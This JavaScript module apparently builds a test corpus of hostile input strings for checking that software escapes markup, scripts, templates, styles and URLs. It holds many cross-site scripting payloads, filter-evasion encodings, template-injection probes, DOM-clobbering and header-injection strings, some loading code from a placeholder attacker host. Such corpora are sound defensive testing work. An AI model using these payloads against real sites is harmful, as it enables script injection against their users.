// Texts that would do harm where text is taken for markup, script, template, style or an address.

const SCRIPTS = [
  "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
  "</script><script>alert(1)</script>", "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</script>",
  "</pre><script>alert(1)</script>", "</code></pre></section><script>alert(1)</script>", "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>", "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>", "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
];
const TAGS = ["img", "svg", "body", "video", "audio", "details open", "input autofocus", "marquee", "iframe", "object", "embed", "math", "a", "form", "button", "select autofocus", "textarea autofocus", "keygen autofocus", "style", "link rel=stylesheet", "meta http-equiv=refresh", "base", "table background=x"];
const HANDLERS = ["onerror=alert(1)", "onload=alert(1)", "onfocus=alert(1)", "onmouseover=alert(1)", "ontoggle=alert(1)"];
const ADDRESSES = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
  "\u0001javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
  "vbscript:msgbox(1)", "//evil.example/x", "https://evil.example/\"onmouseover=\"alert(1)", "jar:http://evil.example!/x",
];
const SVG = [
  "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x/>#x\"/></svg>",
  "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>", "<svg><set attributeName=onmouseover to=alert(1)>",
  "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>", "<svg><style>*{background:url(//evil.example)}</style></svg>",
];
const TEMPLATES = [
  "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{%raw%}{{7*7}}{%endraw%}", "{{constructor.constructor('alert(1)')()}}",
  "<template><script>alert(1)</script></template>", "@{7*7}", "[[${7*7}]]", "{{{html}}}", "{!7*7!}", "`${alert(1)}`",
];
const STYLES = [
  "<style>*{display:none}</style>", "<div style=\"position:fixed;inset:0;background:red\">", "<link rel=stylesheet href=//evil.example/x.css>",
  "@import url(//evil.example/x.css);", "</style><style>body{background:url(//evil.example)}", "<p style=width:expression(alert(1))>",
];
const BREAKOUTS = [
  "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='",
  "` onmouseover=alert(1) x=`", "\" autofocus onfocus=alert(1) x=\"", "&quot;><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u0000script>alert(1)</script>", "<a href=\"x\" id=\"main\">clobber</a>",
  "<form id=help><input name=showModal></form>", "<img name=body><form name=cookie>", "<div id=confirm data-confirm=x>", "<base href=//evil.example/>",
  "<input data-search data-copy=x data-live id=events>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
];
const WRITING = [
  "\u202egnp.exe\u202c", "\u2066\u202ereversed\u2069", "\u200b\u200c\u200d\ufeff", "\u2028alert(1)\u2029", "a\u0300".repeat(200),
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d".repeat(60), "\ud83d\ude80".repeat(300), "\u0627\u0644\u0633\u0644\u0627\u0645".repeat(40),
  "\u0007\u0008\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>", "\u0085\u00a0\u1680\u180e",
  "\u{e0041}\u{e0042}", "\ufdfd".repeat(100), "\t".repeat(500), "\n".repeat(500),
];
const LONG = [
  "x".repeat(65_536), "<b>".repeat(21_000), "&".repeat(65_536), "\"".repeat(30_000), "\u{1f468}\u200d\u{1f469}\u200d".repeat(5_000),
  "a ".repeat(32_000), "</pre>".repeat(10_000), "[".repeat(60_000), "\\".repeat(30_000),
];

/** Each is a text; the longest have 64 KiB in one line. */
export function hostileTexts() {
  const tags = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} src=x ${handler}>`));
  const links = ADDRESSES.flatMap((address) => [address, `<a href="${address}">x</a>`, `<iframe src='${address}'></iframe>`]);
  return [...SCRIPTS, ...tags, ...links, ...SVG, ...TEMPLATES, ...STYLES, ...BREAKOUTS, ...WRITING, ...LONG];
}
